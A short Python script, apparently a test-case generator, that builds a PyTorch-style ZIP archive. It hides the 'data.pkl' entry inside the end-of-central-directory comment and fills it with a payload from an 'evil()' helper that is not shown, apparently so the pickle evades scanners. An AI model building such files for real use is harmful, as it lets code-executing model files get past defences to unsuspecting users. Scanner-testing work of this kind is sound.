# data.pkl's local header + data live inside the EOCD comment; the central directory is valid and points there.
# usage: python3 z1_eocd_comment.py OUT [print]
import sys; import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib'))
from zb import *; from common import *
out = sys.argv[1]; E = evil(len(sys.argv) > 2)
z = Z()
z.add('archive/version', b'3\n')
z.add('archive/data/0', CLEAN_DATA0)
cdoff = len(z.buf)
ents = list(z.ents)
# compute: cd = [version, data/0, data.pkl]; eocd then comment = lfh(data.pkl)+E
tmp_cd = z.cd(ents) + cdh('archive/data.pkl', E, 0)
lho = cdoff + len(tmp_cd) + 22
cd = z.cd(ents) + cdh('archive/data.pkl', E, lho)
comment = lfh('archive/data.pkl', E) + E
data = bytes(z.buf) + cd + eocd(3, len(cd), cdoff, comment)
open(out, 'wb').write(data)
